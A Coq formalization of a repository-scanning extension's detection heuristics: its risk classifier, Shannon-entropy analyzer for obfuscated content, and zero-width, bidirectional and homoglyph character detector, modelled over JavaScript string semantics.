(** * SafeClone detection engine: a shallow embedding and its properties

    The TypeScript sources embedded here are the heuristics engine of the
    SafeClone extension: the risk classifier ([riskClassifier]), the entropy
    analyzer ([entropy.ts]), the homoglyph detector ([homoglyphDetector.ts]),
    the GitHub Actions scanner ([patterns/github.ts]), the Cargo scanner
    ([patterns/rust.ts]), the secondary-script scanner ([recursiveGuard.ts]),
    the search for dangerous commands of the npm and VSCode scanners, the
    file path matcher ([filePathMatcher]) and the orchestrator ([scanFile],
    [scanFiles], [scanRepository]).

    Conventions of the embedding:
    - a JavaScript string is the list of its UTF-16 code units ([jsstring]);
      [.length], indexing, [slice], [includes] work on code units, while
      [for (const ch of s)] iterates code points ([JS.codePoints]);
    - a JavaScript [number] that holds a length, an index or a count is a
      [nat]; the entropy value is a real number (exact arithmetic; rounding of
      IEEE doubles is outside the model);
    - [Date.now()] is an explicit argument;
    - loops whose termination depends on an argument run on fuel and return
      [option];
    - the ecosystem scanners are parameters of the orchestrator; the Cargo
      scanner is embedded as well ([Rust.scanRust]), the others parse JSON
      or use lazy quantifiers and look-ahead and are not. *)

From Stdlib Require Import String Ascii.
From Stdlib Require Import List NArith Arith Bool Lia Permutation Sorted.
From Stdlib Require Import Reals Lra.
Import ListNotations.

Local Open Scope list_scope.

(* ================================================================== *)
(** ** JavaScript strings *)

Module JS.

(** A string is its sequence of UTF-16 code units. *)
Definition jsstring := list N.

(** A source literal made of ASCII characters. *)
Definition lit (s : string) : jsstring :=
  map N_of_ascii (list_ascii_of_string s).

Definition unit_eqb : N -> N -> bool := N.eqb.

Fixpoint str_eqb (a b : jsstring) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => N.eqb x y && str_eqb a' b'
  | _, _ => false
  end.

(** [s.startsWith(p)] *)
Fixpoint startsWith (s p : jsstring) : bool :=
  match p, s with
  | [], _ => true
  | _ :: _, [] => false
  | y :: p', x :: s' => N.eqb x y && startsWith s' p'
  end.

(** [s.endsWith(p)] *)
Definition endsWith (s p : jsstring) : bool :=
  startsWith (rev s) (rev p).

(** [s.includes(p)] *)
Fixpoint includes (s p : jsstring) : bool :=
  startsWith s p ||
  match s with
  | [] => false
  | _ :: s' => includes s' p
  end.

(** [a.includes(x)] on an array of strings. *)
Definition arrayIncludes (a : list jsstring) (x : jsstring) : bool :=
  existsb (str_eqb x) a.

(** [s.slice(i, j)] for [0 <= i], [0 <= j]. *)
Definition slice (s : jsstring) (i j : nat) : jsstring :=
  firstn (j - i) (skipn i s).

(** [s.substring(0, n)] *)
Definition substring0 (s : jsstring) (n : nat) : jsstring := firstn n s.

(** [a.slice(0, n)] on arrays. *)
Definition take {A : Type} (n : nat) (a : list A) : list A := firstn n a.

(** [a.join(sep)] *)
Fixpoint join (sep : jsstring) (a : list jsstring) : jsstring :=
  match a with
  | [] => []
  | [x] => x
  | x :: rest => x ++ sep ++ join sep rest
  end.

(** White space and line terminators: what [trim] strips and [\s] matches. *)
Definition isWhiteSpace (c : N) : bool :=
  existsb (N.eqb c) [9; 10; 11; 12; 13; 32; 160; 5760; 8232; 8233; 8239; 8287; 12288; 65279]%N
  || (N.leb 8192 c && N.leb c 8202).

(** Line terminators: what [.] does not match. *)
Definition isLineTerminator (c : N) : bool :=
  existsb (N.eqb c) [10; 13; 8232; 8233]%N.

Fixpoint trimStart (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: s' => if isWhiteSpace c then trimStart s' else s
  end.

(** [s.trim()] *)
Definition trim (s : jsstring) : jsstring :=
  rev (trimStart (rev (trimStart s))).

(** [s.split('\n')]: never empty, the empty string gives one empty line. *)
Fixpoint splitLines (s : jsstring) : list jsstring :=
  match s with
  | [] => [[]]
  | c :: s' =>
      if N.eqb c 10 then [] :: splitLines s'
      else match splitLines s' with
           | [] => [[c]]
           | l :: ls => (c :: l) :: ls
           end
  end.

(** Decimal digits of a non-negative integer, as [String(n)] prints it. *)
Fixpoint digitsFuel (fuel n : nat) (acc : jsstring) : jsstring :=
  match fuel with
  | O => acc
  | S fuel' =>
      let acc' := N.of_nat (48 + n mod 10) :: acc in
      if n / 10 =? 0 then acc' else digitsFuel fuel' (n / 10) acc'
  end.

Definition natToString (n : nat) : jsstring := digitsFuel (S n) n [].

(** [n.toString(16).toUpperCase()] *)
Definition hexDigit (d : nat) : N :=
  if d <? 10 then N.of_nat (48 + d) else N.of_nat (55 + d).

Fixpoint hexFuel (fuel n : nat) (acc : jsstring) : jsstring :=
  match fuel with
  | O => acc
  | S fuel' =>
      let acc' := hexDigit (n mod 16) :: acc in
      if n / 16 =? 0 then acc' else hexFuel fuel' (n / 16) acc'
  end.

Definition toUpperHex (n : nat) : jsstring := hexFuel (S n) n [].

(** [s.padStart(w, '0')] *)
Definition padStart0 (w : nat) (s : jsstring) : jsstring :=
  repeat 48%N (w - length s) ++ s.

(** Surrogates: a lead unit followed by a trail unit is one code point. *)
Definition isLeadSurrogate (c : N) : bool := N.leb 55296 c && N.leb c 56319.
Definition isTrailSurrogate (c : N) : bool := N.leb 56320 c && N.leb c 57343.

(** The string iterator ([for (const ch of s)]): one string per code point,
    of one unit, or of two for a surrogate pair. *)
Fixpoint codePoints (s : jsstring) : list jsstring :=
  match s with
  | [] => []
  | c :: rest =>
      match rest with
      | d :: rest' =>
          if isLeadSurrogate c && isTrailSurrogate d
          then [c; d] :: codePoints rest'
          else [c] :: codePoints rest
      | [] => [[c]]
      end
  end.

(** [s.toLowerCase()] as far as a search for ASCII text in the result can
    tell: ASCII capitals, the Kelvin sign (to [k]) and the dotted capital I
    (to [i] and a combining dot) are the only units whose lower case holds an
    ASCII unit; every other unit is kept. *)
Definition lowerUnit (c : N) : jsstring :=
  if N.leb 65 c && N.leb c 90 then [(c + 32)%N]
  else if N.eqb c 8490 then [107%N]
  else if N.eqb c 304 then [105%N; 775%N]
  else [c].

Definition toLowerCase (s : jsstring) : jsstring := flat_map lowerUnit s.

End JS.

(* ================================================================== *)
(** ** Shared types ([shared/types]) *)

Module Types.
Import JS.

Inductive RiskLevel := RED | YELLOW | GREEN.

Inductive FindingCategory :=
| VSCODE | NPM | PYTHON | RUST | GITHUB_ACTIONS | ENTROPY | HOMOGLYPH
| PARSE_ERROR | FETCH_ERROR.

Record Finding := mkFinding {
  riskLevel : RiskLevel;
  filePath : jsstring;
  description : jsstring;
  lineNumber : option nat;
  matchedContent : option jsstring;
  category : FindingCategory
}.

Record RepositoryInfo := mkRepositoryInfo {
  owner : jsstring;
  repo : jsstring;
  branch : option jsstring;
  url : jsstring
}.

Record ScanResult := mkScanResult {
  overallRisk : RiskLevel;
  findings : list Finding;
  scannedFiles : list jsstring;
  skippedFiles : list jsstring;
  timestamp : nat;
  repository : RepositoryInfo
}.

Record FileContent := mkFileContent {
  path : jsstring;
  content : jsstring;
  exists_ : bool
}.

Definition RiskLevel_eqb (a b : RiskLevel) : bool :=
  match a, b with
  | RED, RED | YELLOW, YELLOW | GREEN, GREEN => true
  | _, _ => false
  end.

(** The enum's string value, as a template literal prints it. *)
Definition RiskLevel_toString (r : RiskLevel) : jsstring :=
  match r with
  | RED => lit "RED"
  | YELLOW => lit "YELLOW"
  | GREEN => lit "GREEN"
  end.

End Types.

(* ================================================================== *)
(** ** Risk classifier ([heuristics/riskClassifier]) *)

Module RiskClassifier.
Import JS Types.

Definition determineOverallRisk (findings : list Finding) : RiskLevel :=
  if length findings =? 0 then GREEN
  else if existsb (fun f => RiskLevel_eqb (riskLevel f) RED) findings then RED
  else if existsb (fun f => RiskLevel_eqb (riskLevel f) YELLOW) findings then YELLOW
  else GREEN.

(** The key a finding is remembered under:
    [`${finding.riskLevel}:${finding.filePath}:${finding.description}`]. *)
Definition findingKey (finding : Finding) : jsstring :=
  RiskLevel_toString (riskLevel finding) ++ lit ":" ++ filePath finding
  ++ lit ":" ++ description finding.

(** The loop of [deduplicateFindings]; [seen] is the [Set<string>] of keys. *)
Fixpoint dedupeLoop (findings : list Finding) (seen : list jsstring) : list Finding :=
  match findings with
  | [] => []
  | finding :: rest =>
      let key := findingKey finding in
      if arrayIncludes seen key then dedupeLoop rest seen
      else finding :: dedupeLoop rest (key :: seen)
  end.

Definition deduplicateFindings (findings : list Finding) : list Finding :=
  dedupeLoop findings [].

Definition aggregateFindings (findingsArrays : list (list Finding)) : list Finding :=
  deduplicateFindings (concat findingsArrays).

Definition severityOrder (r : RiskLevel) : nat :=
  match r with
  | RED => 0
  | YELLOW => 1
  | GREEN => 2
  end.

(** [Array.prototype.sort] is stable, and the comparator orders findings by
    [severityOrder]: the result is the stable sort by that key, computed here
    by insertion from the right. *)
Fixpoint insertBySeverity (f : Finding) (sorted : list Finding) : list Finding :=
  match sorted with
  | [] => [f]
  | g :: rest =>
      if severityOrder (riskLevel f) <=? severityOrder (riskLevel g)
      then f :: sorted
      else g :: insertBySeverity f rest
  end.

Definition sortFindingsBySeverity (findings : list Finding) : list Finding :=
  fold_right insertBySeverity [] findings.

(** [now] is the value [Date.now()] returns. *)
Definition createScanResult (findings : list Finding)
    (scannedFiles skippedFiles : list jsstring)
    (repository : RepositoryInfo) (now : nat) : ScanResult :=
  {| overallRisk := determineOverallRisk findings;
     findings := sortFindingsBySeverity findings;
     scannedFiles := scannedFiles;
     skippedFiles := skippedFiles;
     timestamp := now;
     repository := repository |}.

End RiskClassifier.

(* ================================================================== *)
(** ** Regular expressions

    The regular expressions of the sources use literals, classes, [.],
    greedy [*], [+], [?], counted repetition, alternation, [^], [$] and [\b].
    [matchAt] is the backtracking matcher of the language specification for
    this fragment: alternatives left to right, greedy repetition, and a
    repetition step that consumes nothing is not taken. *)

Module Regex.
Import JS.

Inductive Regex :=
| Chr (c : N)                                  (* a literal unit *)
| Class (negated : bool) (ranges : list (N * N))  (* [...] and [^...] *)
| Any                                          (* . *)
| Empty
| Seq (a b : Regex)
| Alt (a b : Regex)
| Star (a : Regex)                             (* a* *)
| Bol                                          (* ^ *)
| Eol                                          (* $ *)
| WordBoundary.                                (* \b *)

Definition Plus (a : Regex) : Regex := Seq a (Star a).
Definition Opt (a : Regex) : Regex := Alt a Empty.

Fixpoint Str (s : jsstring) : Regex :=
  match s with
  | [] => Empty
  | c :: s' => Seq (Chr c) (Str s')
  end.

Fixpoint Seqs (rs : list Regex) : Regex :=
  match rs with
  | [] => Empty
  | r :: rs' => Seq r (Seqs rs')
  end.

Fixpoint Alts (rs : list Regex) : Regex :=
  match rs with
  | [] => Class false []
  | [r] => r
  | r :: rs' => Alt r (Alts rs')
  end.

Fixpoint Times (n : nat) (a : Regex) : Regex :=
  match n with
  | O => Empty
  | S n' => Seq a (Times n' a)
  end.

(** The ranges of [\s], the same units as [JS.isWhiteSpace]. *)
Definition spaceRanges : list (N * N) :=
  [(9, 13); (32, 32); (160, 160); (5760, 5760); (8192, 8202); (8232, 8233);
   (8239, 8239); (8287, 8287); (12288, 12288); (65279, 65279)]%N.

Definition Space : Regex := Class false spaceRanges.        (* \s *)
Definition NotSpace : Regex := Class true spaceRanges.      (* [^\s] *)
Definition Digit : Regex := Class false [(48, 57)]%N.       (* \d *)

(** One range per unit of [s]: the class [[s]] or [[^s]]. *)
Definition unitsOf (s : jsstring) : list (N * N) := map (fun c => (c, c)) s.

Definition inRanges (c : N) (rs : list (N * N)) : bool :=
  existsb (fun r => N.leb (fst r) c && N.leb c (snd r)) rs.

Definition isWordChar (c : N) : bool :=
  inRanges c [(97, 122); (65, 90); (48, 57); (95, 95)]%N.

Definition atWordBoundary (prev : option N) (s : jsstring) : bool :=
  xorb (match prev with Some p => isWordChar p | None => false end)
       (match s with c :: _ => isWordChar c | [] => false end).

(** Case folding under the [i] flag. The literals of the sources are ASCII,
    and a unit outside ASCII never folds to an ASCII one. *)
Definition canonicalize (c : N) : N :=
  if N.leb 97 c && N.leb c 122 then (c - 32)%N else c.

Definition unitMatches (ignoreCase : bool) (p x : N) : bool :=
  if ignoreCase then N.eqb (canonicalize p) (canonicalize x) else N.eqb p x.

(** [matchAt ic r prev s k]: match [r] at the head of [s] ([prev] is the unit
    before it, if any) and go on with [k] on what follows; the answer is the
    input left after the whole match. *)
Fixpoint matchAt (ic : bool) (r : Regex) (prev : option N) (s : jsstring)
    (k : option N -> jsstring -> option jsstring) {struct r} : option jsstring :=
  match r with
  | Chr c =>
      match s with
      | x :: s' => if unitMatches ic c x then k (Some x) s' else None
      | [] => None
      end
  | Class neg rs =>
      match s with
      | x :: s' => if xorb neg (inRanges x rs) then k (Some x) s' else None
      | [] => None
      end
  | Any =>
      match s with
      | x :: s' => if isLineTerminator x then None else k (Some x) s'
      | [] => None
      end
  | Empty => k prev s
  | Seq a b => matchAt ic a prev s (fun p' s' => matchAt ic b p' s' k)
  | Alt a b =>
      match matchAt ic a prev s k with
      | Some res => Some res
      | None => matchAt ic b prev s k
      end
  | Star a =>
      (fix iter (n : nat) (prev : option N) (s : jsstring) {struct n} : option jsstring :=
         match n with
         | O => k prev s
         | S n' =>
             match matchAt ic a prev s
                     (fun p' s' => if length s' <? length s then iter n' p' s' else None) with
             | Some res => Some res
             | None => k prev s
             end
         end) (S (length s)) prev s
  | Bol => match prev with None => k prev s | Some _ => None end
  | Eol => match s with [] => k prev s | _ :: _ => None end
  | WordBoundary => if atWordBoundary prev s then k prev s else None
  end.

Definition execAt (ic : bool) (r : Regex) (prev : option N) (s : jsstring) : option jsstring :=
  matchAt ic r prev s (fun _ rest => Some rest).

(** The leftmost match in [s]: how many units precede it, and the input left
    after it. *)
Fixpoint search (ic : bool) (r : Regex) (prev : option N) (s : jsstring)
    : option (nat * jsstring) :=
  match execAt ic r prev s with
  | Some rest => Some (0, rest)
  | None =>
      match s with
      | [] => None
      | c :: s' =>
          match search ic r (Some c) s' with
          | Some (n, rest) => Some (S n, rest)
          | None => None
          end
      end
  end.

(** [re.test(s)] for a regular expression without the [g] flag. *)
Definition test (ic : bool) (r : Regex) (s : jsstring) : bool :=
  match search ic r None s with
  | Some _ => true
  | None => false
  end.

(** The text of the leftmost match ([s.match(re)[0]] without the [g] flag). *)
Definition firstMatch (ic : bool) (r : Regex) (s : jsstring) : option jsstring :=
  match search ic r None s with
  | Some (skipped, rest) =>
      let from := skipn skipped s in
      Some (firstn (length from - length rest) from)
  | None => None
  end.

(** [s.match(re)] with the [g] flag: every match, left to right, each search
    starting where the last match ended (one unit further after an empty
    match). No match at all is the empty list (JavaScript's [null]). *)
Fixpoint matchAllFrom (fuel : nat) (ic : bool) (r : Regex) (prev : option N)
    (s : jsstring) : list jsstring :=
  match fuel with
  | O => []
  | S fuel' =>
      match search ic r prev s with
      | None => []
      | Some (skipped, rest) =>
          let from := skipn skipped s in
          let matched := firstn (length from - length rest) from in
          match matched with
          | [] =>
              match from with
              | [] => [[]]
              | c :: from' => [] :: matchAllFrom fuel' ic r (Some c) from'
              end
          | _ :: _ => matched :: matchAllFrom fuel' ic r (Some (last matched 0%N)) rest
          end
      end
  end.

Definition matchAll (ic : bool) (r : Regex) (s : jsstring) : list jsstring :=
  matchAllFrom (S (length s)) ic r None s.

(** [s.replace(/\s/g, '')] *)
Definition removeSpaces (s : jsstring) : jsstring :=
  filter (fun c => negb (isWhiteSpace c)) s.

End Regex.

(* ================================================================== *)
(** ** Entropy analyzer ([heuristics/entropy.ts]) *)

Module Entropy.
Import JS Types Regex.

(** [ENTROPY_THRESHOLDS] of [shared/constants.ts]. *)
Definition NORMAL : R := 3.5%R.
Definition WARNING : R := 5.5%R.
Definition CRITICAL : R := 6.5%R.

(** A [Map<string, number>]: keys in insertion order. *)
Definition FrequencyMap := list (jsstring * nat).

Fixpoint mapGet (m : FrequencyMap) (k : jsstring) : option nat :=
  match m with
  | [] => None
  | (k', v) :: m' => if str_eqb k k' then Some v else mapGet m' k
  end.

Fixpoint mapSet (m : FrequencyMap) (k : jsstring) (v : nat) : FrequencyMap :=
  match m with
  | [] => [(k, v)]
  | (k', v') :: m' => if str_eqb k k' then (k', v) :: m' else (k', v') :: mapSet m' k v
  end.

Definition mapValues (m : FrequencyMap) : list nat := map snd m.

(** [x || 0] for [x] a count or [undefined]. *)
Definition orZero (x : option nat) : nat :=
  match x with
  | Some n => n
  | None => 0
  end.

(** The first loop of [calculateEntropy]. *)
Definition countFrequencies (data : jsstring) : FrequencyMap :=
  fold_left (fun frequencies char =>
               mapSet frequencies char (orZero (mapGet frequencies char) + 1))
            (codePoints data) [].

(** [Math.log2] *)
Definition log2 (x : R) : R := (ln x / ln 2)%R.

Definition calculateEntropy (data : jsstring) : R :=
  if length data =? 0 then 0%R
  else
    let frequencies := countFrequencies data in
    let length := length data in
    fold_left (fun entropy count =>
                 let probability := (INR count / INR length)%R in
                 (entropy - probability * log2 probability)%R)
              (mapValues frequencies) 0%R.

Inductive EntropyLevel := normal | elevated | high | critical.

Definition classifyEntropy (entropy : R) : EntropyLevel :=
  if Rge_dec entropy CRITICAL then critical
  else if Rge_dec entropy WARNING then high
  else if Rge_dec entropy NORMAL then elevated
  else normal.

(** [/^[A-Za-z0-9+/]+=*$/] *)
Definition base64Pattern : Regex :=
  Seqs [Bol; Plus (Class false [(65, 90); (97, 122); (48, 57); (43, 43); (47, 47)]%N);
        Star (Chr 61); Eol].

Definition isLikelyBase64 (data : jsstring) : bool :=
  let cleaned := removeSpaces data in
  if length cleaned <? 20 then false
  else if negb (test false base64Pattern cleaned) then false
  else (length cleaned mod 4 =? 0) || (length cleaned mod 4 <=? 2).

(** [/^[A-Fa-f0-9]+$/] *)
Definition hexPattern : Regex :=
  Seqs [Bol; Plus (Class false [(65, 70); (97, 102); (48, 57)]%N); Eol].

Definition isLikelyHex (data : jsstring) : bool :=
  let cleaned := removeSpaces data in
  (32 <=? length cleaned) && (length cleaned mod 2 =? 0) && test false hexPattern cleaned.

(** [x.toFixed(2)]: the integer [n] nearest to [100 x] (the larger one of two),
    printed with two decimals. *)
Definition twoDigits (n : nat) : jsstring :=
  if n <? 10 then lit "0" ++ natToString n else natToString n.

Definition toFixed2Abs (x : R) : jsstring :=
  let n := Z.to_nat (Int_part (x * 100 + / 2)%R) in
  natToString (n / 100) ++ lit "." ++ twoDigits (n mod 100).

Definition toFixed2 (x : R) : jsstring :=
  if Rlt_dec x 0 then lit "-" ++ toFixed2Abs (- x)%R else toFixed2Abs x.

Definition ellipsis : jsstring := lit "...".

Definition createEntropyFinding (entropy : R) (level : EntropyLevel)
    (filePath sample : jsstring) : Finding :=
  match level with
  | critical =>
      {| riskLevel := RED;
         filePath := filePath;
         description := lit "Critical entropy (" ++ toFixed2 entropy
                        ++ lit ") - likely encrypted or heavily obfuscated";
         lineNumber := None;
         matchedContent := Some (substring0 sample 50);
         category := ENTROPY |}
  | _ =>
      {| riskLevel := YELLOW;
         filePath := filePath;
         description := lit "High entropy (" ++ toFixed2 entropy
                        ++ lit ") detected - possible obfuscation";
         lineNumber := None;
         matchedContent := Some (substring0 sample 50);
         category := ENTROPY |}
  end.

Definition criticalWindowFinding (entropy : R) (filePath window : jsstring) : Finding :=
  {| riskLevel := RED;
     filePath := filePath;
     description := lit "Critical entropy (" ++ toFixed2 entropy
                    ++ lit ") detected - likely encrypted or heavily obfuscated";
     lineNumber := None;
     matchedContent := Some (substring0 window 50 ++ ellipsis);
     category := ENTROPY |}.

Definition base64WindowFinding (entropy : R) (filePath window : jsstring) : Finding :=
  {| riskLevel := YELLOW;
     filePath := filePath;
     description := lit "High entropy base64 data (" ++ toFixed2 entropy
                    ++ lit ") - review for hidden content";
     lineNumber := None;
     matchedContent := Some (substring0 window 50 ++ ellipsis);
     category := ENTROPY |}.

Definition highWindowFinding (entropy : R) (filePath window : jsstring) : Finding :=
  {| riskLevel := YELLOW;
     filePath := filePath;
     description := lit "High entropy (" ++ toFixed2 entropy
                    ++ lit ") detected - possible obfuscation";
     lineNumber := None;
     matchedContent := Some (substring0 window 50 ++ ellipsis);
     category := ENTROPY |}.

Section Scan.
Variables (content filePath : jsstring) (windowSize stepSize : nat).

(** The sliding-window loop
    [for (let i = 0; i < content.length - windowSize; i += stepSize)],
    entered at [i] with the set [highEntropyRegions] and the findings so far.
    It runs on fuel: [None] when the fuel runs out (a step of 0 never ends). *)
Fixpoint slidingWindows (fuel i : nat) (highEntropyRegions : list nat)
    (findings : list Finding) : option (list Finding) :=
  match fuel with
  | O => None
  | S fuel' =>
      if i <? length content - windowSize then
        let window := slice content i (i + windowSize) in
        let entropy := calculateEntropy window in
        let level := classifyEntropy entropy in
        let regionKey := i / (windowSize * 2) in
        if existsb (Nat.eqb regionKey) highEntropyRegions then
          slidingWindows fuel' (i + stepSize) highEntropyRegions findings
        else
          match level with
          | critical =>
              slidingWindows fuel' (i + stepSize) (regionKey :: highEntropyRegions)
                (findings ++ [criticalWindowFinding entropy filePath window])
          | high =>
              if isLikelyBase64 window then
                slidingWindows fuel' (i + stepSize) (regionKey :: highEntropyRegions)
                  (findings ++ [base64WindowFinding entropy filePath window])
              else if negb (isLikelyHex window) then
                slidingWindows fuel' (i + stepSize) (regionKey :: highEntropyRegions)
                  (findings ++ [highWindowFinding entropy filePath window])
              else slidingWindows fuel' (i + stepSize) highEntropyRegions findings
          | _ => slidingWindows fuel' (i + stepSize) highEntropyRegions findings
          end
      else Some findings
  end.

(** The findings of the sliding-window loop, before the output is limited. *)
Definition windowFindings : option (list Finding) :=
  slidingWindows (S (length content)) 0 [] [].

Definition additionalRegionsFinding (n : nat) : Finding :=
  {| riskLevel := YELLOW;
     Types.filePath := filePath;
     description := natToString n ++ lit " additional high entropy regions detected";
     lineNumber := None;
     matchedContent := None;
     category := ENTROPY |}.

(** The last block of [scanForHighEntropy]: "Limit findings to avoid
    overwhelming output". *)
Definition limitFindings (findings : list Finding) : list Finding :=
  if 5 <? length findings then
    let criticalFindings := filter (fun f => RiskLevel_eqb (riskLevel f) RED) findings in
    let yellowFindings := filter (fun f => RiskLevel_eqb (riskLevel f) YELLOW) findings in
    let limitedFindings := take 3 criticalFindings ++ take 2 yellowFindings in
    if length limitedFindings <? length findings then
      limitedFindings
        ++ [additionalRegionsFinding (length findings - length limitedFindings)]
    else limitedFindings
  else findings.

Definition scanForHighEntropy : option (list Finding) :=
  if length content <? windowSize then
    let entropy := calculateEntropy content in
    let level := classifyEntropy entropy in
    match level with
    | critical | high => Some [createEntropyFinding entropy level filePath content]
    | _ => Some []
    end
  else
    match windowFindings with
    | Some findings => Some (limitFindings findings)
    | None => None
    end.

End Scan.

(** The call with the default [windowSize = 100] and [stepSize = 50]. *)
Definition scanForHighEntropyDefault (content filePath : jsstring) : option (list Finding) :=
  scanForHighEntropy content filePath 100 50.

End Entropy.

(* ================================================================== *)
(** ** Summary of findings ([heuristics/riskClassifier], continued) *)

Module Summary.
Import JS Types Entropy.

(** The string value of the enum [FindingCategory]. *)
Definition FindingCategory_toString (c : FindingCategory) : jsstring :=
  match c with
  | VSCODE => lit "vscode"
  | NPM => lit "npm"
  | PYTHON => lit "python"
  | RUST => lit "rust"
  | GITHUB_ACTIONS => lit "github_actions"
  | ENTROPY => lit "entropy"
  | HOMOGLYPH => lit "homoglyph"
  | PARSE_ERROR => lit "parse_error"
  | FETCH_ERROR => lit "fetch_error"
  end.

(** [getFindingsSummary]: [summary] is an object used as a map from the
    category to its count, kept like the [Map] of the entropy analyzer (keys
    in insertion order); [summary[category] || 0] is the count so far. *)
Definition getFindingsSummary (findings : list Finding) : FrequencyMap :=
  fold_left (fun summary finding =>
               let category := FindingCategory_toString (category finding) in
               mapSet summary category (orZero (mapGet summary category) + 1))
            findings [].

End Summary.

(* ================================================================== *)
(** ** Homoglyph detector ([heuristics/homoglyphDetector.ts]) *)

Module Homoglyph.
Import JS Types.

(** [INVISIBLE_CHARS], [BIDI_CHARS] and [HOMOGLYPHS] of
    [shared/constants.ts]; each character is a string of one unit. *)
Definition INVISIBLE_CHARS : list jsstring :=
  [[8203]; [8204]; [8205]; [65279]; [173]; [8288]; [6158]]%N.

Definition BIDI_CHARS : list jsstring :=
  [[8234]; [8235]; [8236]; [8237]; [8238]; [8294]; [8295]; [8296]; [8297]]%N.

Definition HOMOGLYPHS : list (jsstring * list jsstring) :=
  [ (lit "a", [[1072]; [593]; [945]]);
    (lit "c", [[1089]; [1010]]);
    (lit "e", [[1077]; [949]]);
    (lit "o", [[1086]; [959]; [48]]);
    (lit "p", [[1088]; [961]]);
    (lit "x", [[1093]; [967]]);
    (lit "y", [[1091]; [947]]);
    (lit "B", [[1042]; [914]]);
    (lit "H", [[1053]; [919]]);
    (lit "K", [[1050]; [922]]);
    (lit "M", [[1052]; [924]]);
    (lit "T", [[1058]; [932]]);
    (lit "i", [[1110]; [953]]);
    (lit "j", [[1112]]);
    (lit "s", [[1109]]) ]%N.

Inductive HiddenType := zero_width | homoglyph | bidi.

Record HiddenCharacterResult := mkHidden {
  type : HiddenType;
  position : nat;
  character : jsstring;
  codePoint : jsstring;
  context : jsstring
}.

Definition HiddenType_eqb (a b : HiddenType) : bool :=
  match a, b with
  | zero_width, zero_width | homoglyph, homoglyph | bidi, bidi => true
  | _, _ => false
  end.

(** [content[i]], a string of one unit for [i < content.length]. *)
Definition charAt (content : jsstring) (i : nat) : jsstring :=
  match nth_error content i with
  | Some c => [c]
  | None => []
  end.

(** [`U+${char.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}`] *)
Definition codePointOf (char : jsstring) : jsstring :=
  lit "U+" ++ padStart0 4 (toUpperHex (N.to_nat (hd 0%N char))).

Definition replaceUnits (p : N -> bool) (by_ : jsstring) (s : jsstring) : jsstring :=
  flat_map (fun c => if p c then by_ else [c]) s.

Definition getContext (content : jsstring) (position : nat) : jsstring :=
  let radius := 10 in
  let start := position - radius in
  let end_ := Nat.min (length content) (position + radius + 1) in
  let context := slice content start end_ in
  let context :=
    replaceUnits (fun c => (N.leb 8203 c && N.leb c 8205) || N.eqb c 65279)
                 (lit "[ZWSP]") context in
  let context :=
    replaceUnits (fun c => (N.leb 8234 c && N.leb c 8238) || (N.leb 8294 c && N.leb c 8297))
                 (lit "[BIDI]") context in
  let context := if 0 <? start then lit "..." ++ context else context in
  if end_ <? length content then context ++ lit "..." else context.

Definition detectInvisibleCharacters (content : jsstring) : list HiddenCharacterResult :=
  flat_map (fun i =>
      let char := charAt content i in
      (if arrayIncludes INVISIBLE_CHARS char
       then [ {| type := zero_width; position := i; character := char;
                 codePoint := codePointOf char; context := getContext content i |} ]
       else [])
      ++
      (if arrayIncludes BIDI_CHARS char
       then [ {| type := bidi; position := i; character := char;
                 codePoint := codePointOf char; context := getContext content i |} ]
       else []))
    (seq 0 (length content)).

Definition quote : jsstring := [39%N].

Definition detectHomoglyphs (content : jsstring) : list HiddenCharacterResult :=
  flat_map (fun i =>
      let char := charAt content i in
      flat_map (fun entry =>
          let latin := fst entry in
          let lookalikes := snd entry in
          if arrayIncludes lookalikes char
          then [ {| type := homoglyph; position := i; character := char;
                    codePoint := codePointOf char;
                    context := quote ++ char ++ quote ++ lit " looks like " ++ quote
                               ++ latin ++ quote ++ lit " at position "
                               ++ natToString i |} ]
          else [])
        HOMOGLYPHS)
    (seq 0 (length content)).

(** [/[^\x00-\x7F]/.test(content)] *)
Definition hasNonAscii (content : jsstring) : bool :=
  existsb (fun c => negb (N.leb c 127)) content.

Definition hasMixedScripts (content : jsstring) : bool :=
  let hasLatin :=
    existsb (fun c => (N.leb 97 c && N.leb c 122) || (N.leb 65 c && N.leb c 90)) content in
  let hasCyrillic := existsb (fun c => N.leb 1024 c && N.leb c 1279) content in
  let hasGreek := existsb (fun c => N.leb 880 c && N.leb c 1023) content in
  let scriptCount := length (filter (fun b : bool => b) [hasLatin; hasCyrillic; hasGreek]) in
  1 <? scriptCount.

Definition describeLocation (c : HiddenCharacterResult) : jsstring :=
  codePoint c ++ lit " at pos " ++ natToString (position c).

Definition scanForHomoglyphs (content filePath : jsstring) : list Finding :=
  let invisibleChars := detectInvisibleCharacters content in
  let findings1 :=
    if 0 <? length invisibleChars then
      let zeroWidth := filter (fun c => HiddenType_eqb (type c) zero_width) invisibleChars in
      let bidi_ := filter (fun c => HiddenType_eqb (type c) bidi) invisibleChars in
      (if 0 <? length zeroWidth then
         [ {| riskLevel := RED;
              filePath := filePath;
              description := natToString (length zeroWidth)
                ++ lit " zero-width character(s) detected - potential obfuscation";
              lineNumber := None;
              matchedContent := Some (join (lit ", ") (map describeLocation (take 3 zeroWidth)));
              category := HOMOGLYPH |} ]
       else [])
      ++
      (if 0 <? length bidi_ then
         [ {| riskLevel := RED;
              filePath := filePath;
              description := natToString (length bidi_)
                ++ lit " bidirectional override character(s) detected - potential Trojan Source attack";
              lineNumber := None;
              matchedContent := Some (join (lit ", ") (map describeLocation (take 3 bidi_)));
              category := HOMOGLYPH |} ]
       else [])
    else [] in
  let homoglyphs := detectHomoglyphs content in
  let findings2 :=
    if 0 <? length homoglyphs then
      if hasMixedScripts content then
        [ {| riskLevel := RED;
             filePath := filePath;
             description := natToString (length homoglyphs)
               ++ lit " homoglyph character(s) detected in mixed-script context - potential spoofing attack";
             lineNumber := None;
             matchedContent := Some (join (lit "; ") (map context (take 3 homoglyphs)));
             category := HOMOGLYPH |} ]
      else if 0 <? length homoglyphs then
        [ {| riskLevel := YELLOW;
             filePath := filePath;
             description := natToString (length homoglyphs)
               ++ lit " potential homoglyph character(s) detected";
             lineNumber := None;
             matchedContent := Some (join (lit "; ") (map context (take 3 homoglyphs)));
             category := HOMOGLYPH |} ]
      else []
    else [] in
  findings1 ++ findings2.

Definition needsHomoglyphScan (content : jsstring) : bool :=
  hasNonAscii content
  || existsb (fun c => includes content c) INVISIBLE_CHARS
  || existsb (fun c => includes content c) BIDI_CHARS.

End Homoglyph.

(* ================================================================== *)
